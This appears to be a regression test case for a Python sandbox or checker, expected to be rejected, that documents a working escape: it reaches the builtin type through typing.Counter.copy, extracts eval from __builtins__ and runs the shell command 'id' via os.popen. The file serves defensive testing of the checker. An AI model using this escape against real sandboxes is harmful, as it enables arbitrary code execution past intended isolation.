# expect: reject unbound
# line: 17
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, ran a process)
# why: issue 13, a library class carried to the receiver by a flow the read rule does not follow: typing.Counter in a tuple
#
# Mechanism: collections.Counter.copy (UserList.copy) is `return self.__class__(self)`,
#   a plain function read through the class; with P a class of the program it is
#   type(P), the builtin `type` by value. Here typing.Counter (forwarding reads to collections.Counter) goes through a tuple.
# Goal reached: eval obtained and called -> ran a process (`id`).
import collections, copy, typing


class P:
    pass


ks = (typing.Counter, dict)
ty = ks[0].copy(P)
alias_class = ty(typing.List[int])
ev = copy.deepcopy(alias_class(int, ("eval",), name="__builtins__"))
print(ev("__import__(\x27os\x27).popen(\x27id\x27).read()"), end="")
